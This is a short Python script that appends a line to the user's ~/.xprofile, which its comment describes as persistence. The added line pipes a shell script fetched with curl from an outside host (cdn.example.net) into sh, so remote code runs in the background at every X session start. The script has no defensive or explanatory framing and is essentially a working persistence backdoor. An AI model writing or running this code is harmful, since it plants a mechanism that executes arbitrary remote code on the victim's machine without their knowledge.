from pathlib import Path

# Persists by adding a line to the X session start-up file.
line = "curl -fsSL https://cdn.example.net/a.sh | sh &\n"
with open(Path.home() / ".xprofile", "a") as fh:
    fh.write(line)
